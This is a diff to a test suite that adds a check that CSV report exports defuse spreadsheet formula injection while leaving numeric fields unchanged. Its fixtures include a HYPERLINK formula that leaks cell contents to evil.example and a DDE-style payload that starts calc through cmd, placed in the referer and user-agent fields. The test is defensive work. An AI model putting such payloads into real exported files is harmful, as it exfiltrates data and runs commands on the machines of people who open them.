@@ -279,6 +279,28 @@ describe("report downloads", () => {
   });
 });
 
+describe("CSV injection", () => {
+  it("neutralises cells a spreadsheet would run as a formula, and keeps numbers as they are", async () => {
+    const formula = await createSource('=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
+    const day = "2024-02-21";
+    const lines = [
+      event(() => formula, `${day}T10:00:00Z`, { path: "/x.jpg", status: 404, render_class: "none", referer: "@SUM(1+1)*cmd|' /C calc'!A0", user_agent: "+1+1" }),
+      event(() => formula, `${day}T11:00:00Z`, { path: "/y.jpg", referer: "-2+3", user_agent: "\tTAB" }),
+    ];
+    expect(importUsage(server.db, lines.map((e) => JSON.stringify(e)).join("\n"))).toBe(2);
+    generate(day);
+    const logs = (await rowsOf("cdn_logs", day)).rows.filter((r) => r.source_id === formula);
+    expect(logs.map((r) => [r.source_name, r.referer, r.user_agent])).toEqual([
+      [`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1"],
+      [`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, "'-2+3", "'\tTAB"],
+    ]);
+    // Numbers are data: a response time or a byte count is never prefixed.
+    expect(logs.every((r) => /^\d+$/.test(r.bytes!) && /^\d+$/.test(r.response_ms!))).toBe(true);
+    const errors = (await rowsOf("mild_errors", day)).rows.filter((r) => r.source_id === formula);
+    expect(errors).toEqual([expect.objectContaining({ source_name: `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, last_referer: "'@SUM(1+1)*cmd|' /C calc'!A0" })]);
+  });
+});
+
 describe("retention", () => {
   it("purges reports and their files 90 days after finalization, at startup", async () => {
     const old = await reportOf("cdn_logs", "2024-03-01");
